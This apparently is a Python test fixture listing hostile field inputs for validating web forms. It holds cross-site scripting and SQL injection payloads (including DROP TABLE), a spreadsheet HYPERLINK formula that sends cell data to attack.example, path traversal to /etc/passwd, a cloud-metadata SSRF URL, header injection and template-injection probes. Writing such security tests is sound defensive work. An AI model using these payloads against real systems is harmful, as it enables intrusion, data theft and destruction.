"""What somebody with bad intentions writes in a field."""

ALIVE = "<script>alert(4711)</script>"
JUNK = ("\x00", "-9" * 40 + "å" * 2000)
PROBES = (
    f"{ALIVE} '\"--%(x)s {{{{7*7}}}}",
    f'"><img src=x onerror=alert(4711)>{ALIVE}',
    "' OR 1=1; DROP TABLE accounts_user; --",
    "javascript:alert(4711)//https://attack.example/",
    '=HYPERLINK("https://attack.example/?"&A1)',
    "../../../../etc/passwd",
    "//attack.example/\\@attack.example",
    "http://169.254.169.254/latest/meta-data/",
    "\x00\ud7ff\uffff\u202e \r\nSet-Cookie: a=b",
    "9" * 40,
    "-1",
    "2026-02-30",
    "å" * 2100,
    "%s%n{0.__class__}${7*7}",
    "",
)
